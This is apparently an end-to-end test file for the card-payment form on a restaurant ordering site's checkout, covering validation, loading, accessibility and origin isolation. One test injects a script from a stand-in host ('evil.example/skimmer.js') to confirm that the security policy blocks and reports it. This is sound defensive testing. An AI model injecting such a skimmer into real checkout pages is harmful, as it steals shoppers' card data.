import type { Page } from 'playwright'
import { describe, expect, test } from 'vitest'

import type { ScriptInventory } from '#generated/models.ts'
import { cardField, cardFrame, chooseCard, fillCard } from '../support/card.ts'
import { fillCustomer, openCheckout, send } from '../support/checkout.ts'
import { audit, type Wish } from '../support/diner.ts'
import { openWithCart } from '../support/open-with-cart.ts'
import { orderOfPage } from '../support/orders.ts'
import { ADMIN_TOKEN } from '../support/server.ts'
import { DESKTOP, PHONE, useSite, type OpenOptions } from '../support/site.ts'

const EMPANADAS: Wish = { path: '/menu/la-esquina/Para%20llevar/empanadas/empanada-de-pollo', quantity: 2 }
const PAID = 'Pago procesado con éxito.'
const INCOMPLETE = 'Este campo está incompleto'

const site = useSite()

async function checkout(options: OpenOptions = {}, wish = EMPANADAS): Promise<Page> {
  const page = await openWithCart(site, wish, options)
  await openCheckout(page)
  await fillCustomer(page)
  return page
}
const toast = (page: Page, text: string) => page.getByText(text).first().waitFor()

describe('the card fields', () => {
  test('fields side by side stay in line, and what is wrong with them has its mark', async () => {
    const page = await checkout()
    await chooseCard(page)
    await send(page).click()
    const frame = cardFrame(page)
    const [expiry, code] = await Promise.all(
      ['Vencimiento', 'Código de seguridad'].map((name) => cardField(page, name).boundingBox()),
    )
    expect(expiry?.y).toBe(code?.y)
    const reasons = frame.getByText(INCOMPLETE)
    expect(await reasons.count()).toBeGreaterThan(3)
    expect(await frame.locator('.error svg').filter({ visible: true }).count()).toBe(await reasons.count())
  })

  test('[CHK-12] [PAY-04] a spinner for two seconds; while they load, nothing is sent', async () => {
    const page = await checkout()
    const asked: string[] = []
    page.on('request', (request) => asked.push(request.url()))
    await page.clock.pauseAt(site.server.time.now.getTime() + 60_000)
    await page.getByRole('radio', { name: /^Tarjeta/ }).check()
    const wait = page.getByText('Cargando el formulario de la tarjeta…')
    await wait.waitFor()
    await send(page).click()
    await toast(page, 'Estamos cargando el formulario de la tarjeta, aguarde unos momentos.')
    // they are there, and yet
    await cardFrame(page).getByRole('textbox', { includeHidden: true }).last().waitFor({ state: 'attached' })
    await page.clock.runFor(1_999)
    expect(await wait.isVisible()).toBe(true)
    await page.clock.runFor(1)
    await wait.waitFor({ state: 'hidden' })
    expect(asked.filter((url) => /\/tokens|\/api\/order$/.test(url))).toEqual([])
  })

  test('[CHK-12] [CHK-08.17] five fields, each with its own words, beside the row of the table', async () => {
    const page = await checkout()
    await chooseCard(page)
    expect(await cardFrame(page).getByRole('textbox').count()).toBe(5)
    await cardField(page, 'Número de la tarjeta').fill('4509953566233705')
    await cardField(page, 'Vencimiento').fill('0120')
    await send(page).click()
    await toast(page, 'Debe completar correctamente los campos de la tarjeta para continuar.')
    const number = cardField(page, 'Número de la tarjeta')
    await expect.poll(() => number.evaluate((input) => input === document.activeElement)).toBe(true)
    expect(await number.getAttribute('aria-invalid')).toBe('true')
    const frame = cardFrame(page)
    await frame.getByText('Revisa el número de la tarjeta').waitFor()
    await frame.getByText('La tarjeta está vencida').waitFor()
    expect(await frame.getByText(INCOMPLETE).count()).toBe(3)
    await frame
      .getByRole('alert')
      .getByText('Debe completar correctamente los campos de su tarjeta')
      .waitFor()
    const described = await number.getAttribute('aria-describedby')
    expect(await frame.locator(`#${described}`).innerText()).toBe('Revisa el número de la tarjeta')
  })

  test('[CHK-08.18] the provider makes no token: that is said, and nothing is sent', async () => {
    const page = await checkout({ expected: [/503/] })
    const sent: string[] = []
    page.on('request', (request) => sent.push(new URL(request.url()).pathname))
    await page.context().route('**/tokens', (route) => route.fulfill({ status: 503, body: '{}' }))
    await chooseCard(page)
    await fillCard(page)
    await send(page).click()
    await toast(page, 'Debe completar los campos de su tarjeta correctamente')
    expect(sent).not.toContain('/api/order')
    await page.context().unroute('**/tokens')
    await send(page).click()
    await toast(page, PAID)
  })

  test('[CHK-12] a card is judged by its fields as the order is sent: what was typed last counts at once', async () => {
    const page = await openWithCart(site, EMPANADAS)
    // what the fields tell the page as they are typed in never comes
    await page.addInitScript(() => {
      window.addEventListener('message', (event: MessageEvent<{ kind?: unknown }>) => {
        if (event.data.kind === 'valid') event.stopImmediatePropagation()
      })
    })
    await openCheckout(page)
    await fillCustomer(page)
    await chooseCard(page)
    await send(page).click()
    await toast(page, 'Debe completar correctamente los campos de la tarjeta para continuar.')
    await fillCard(page)
    await send(page).click()
    await toast(page, PAID)
  })

  test('[CHK-12] where they do not come, that is said, and another way to pay remains', async () => {
    const page = await checkout({ expected: [/ERR_FAILED|blocked|404/] })
    await page.route('**/api/payments/providers', (route) => route.fulfill({ json: { providers: [] } }))
    await page.getByRole('radio', { name: /^Tarjeta/ }).check()
    const said = page.getByRole('alert').filter({ hasText: /^No pudimos cargar el formulario de la tarjeta/ })
    await said.waitFor()
    await page.getByRole('radio', { name: 'Efectivo en el local' }).check()
    await send(page).click()
    expect(await orderOfPage(page)).toMatchObject({ status: 'GENERATED' })
  })

  test('[CHK-12] by keyboard alone: through the fields and on, each with its name', async () => {
    const page = await checkout()
    await chooseCard(page)
    await page.getByRole('radio', { name: /^Tarjeta/ }).focus()
    const typed: [string, string][] = [
      ['Número de la tarjeta', '4509953566233704'],
      ['Nombre como figura en la tarjeta', 'APRO'],
      ['Vencimiento', '1130'],
      ['Código de seguridad', '123'],
      ['DNI del titular', '12345678'],
    ]
    for (const [label, text] of typed) {
      await page.keyboard.press('Tab')
      await expect
        .poll(() => cardField(page, label).evaluate((input) => input === document.activeElement))
        .toBe(true)
      await page.keyboard.type(text)
    }
    expect(await cardField(page, 'Número de la tarjeta').inputValue()).toBe('4509 9535 6623 3704')
    expect(await cardField(page, 'Vencimiento').inputValue()).toBe('11/30')
    await send(page).focus()
    await page.keyboard.press('Enter')
    await toast(page, PAID)
  })

  test.each([
    ['light', PHONE],
    ['dark', DESKTOP],
  ] as const)('[CHK-12] hold to the rules of accessibility, %s', async (colorScheme, viewport) => {
    const page = await checkout({ colorScheme, viewport })
    await chooseCard(page)
    await send(page).click()
    await cardFrame(page).getByText(INCOMPLETE).first().waitFor()
    await page
      .getByText('Debe completar correctamente los campos de la tarjeta para continuar.')
      .last()
      .waitFor()
    expect(await audit(page)).toEqual([])
  })

  test('stand on an origin of their own, which only the storefront may frame, and take no orders from others', async () => {
    const page = await checkout()
    await chooseCard(page)
    const source = await page.locator('iframe[title="Datos de la tarjeta"]').getAttribute('src')
    const origin = new URL(source ?? '').origin
    expect(origin).not.toBe(site.server.url)
    const answer = await page.request.get(source ?? '')
    const policy = answer.headers()['content-security-policy']
    expect(policy).toContain(`frame-ancestors ${site.server.url};`)
    const own = (await page.request.get('/menu/la-esquina/checkout')).headers()['content-security-policy']
    expect(own).toContain(`frame-src 'self' ${origin};`)
    const foreign = await page.request.post(`${origin}/tokens`, {
      headers: { origin: 'https://elsewhere.example' },
      data: {},
    })
    expect(foreign.status()).toBe(403)
  })

  test('[PAY-01] nothing of others runs on the page, nor a part of it that was changed, and what was kept out is reported', async () => {
    const page = await checkout({
      expected: [/Content Security Policy/, /integrity/, /Failed to (?:load|find)/],
    })
    const parts = /\/assets\/(?:embedded-card|account-modal)-[^/]*\.js$/
    await page.route(parts, async (route) => {
      const response = await route.fetch()
      await route.fulfill({ response, body: `${await response.text()};window.changed=true` })
    })
    await page.reload()
    await page.getByRole('radio', { name: /^Tarjeta/ }).check()
    await page
      .getByText(/^No pudimos cargar el formulario de la tarjeta/)
      .first()
      .waitFor()
    // what is opened later is held to its hash, too
    const opened = await page.evaluate(`(() => {
      const map = JSON.parse(document.querySelector('script[type="importmap"]').textContent)
      const path = Object.keys(map.integrity).find((one) => one.includes('/account-modal-'))
      return import(path).then(() => 'ran', () => 'refused')
    })()`)
    expect(opened).toBe('refused')
    expect(await page.evaluate('window.changed')).toBeUndefined()
    await page.evaluate(() => {
      const script = document.createElement('script')
      script.src = 'https://evil.example/skimmer.js'
      document.head.append(script)
    })
    const reports = async () => {
      const headers = { authorization: `Bearer ${ADMIN_TOKEN}` }
      const answer = await fetch(`${site.server.url}/api/admin/scripts`, { headers })
      return ((await answer.json()) as ScriptInventory).reports
    }
    await expect.poll(reports).toMatchObject([
      {
        alias: 'la-esquina',
        page: 'checkout',
        directive: 'script-src-elem',
        blocked: 'https://evil.example/skimmer.js',
      },
    ])
  })
})
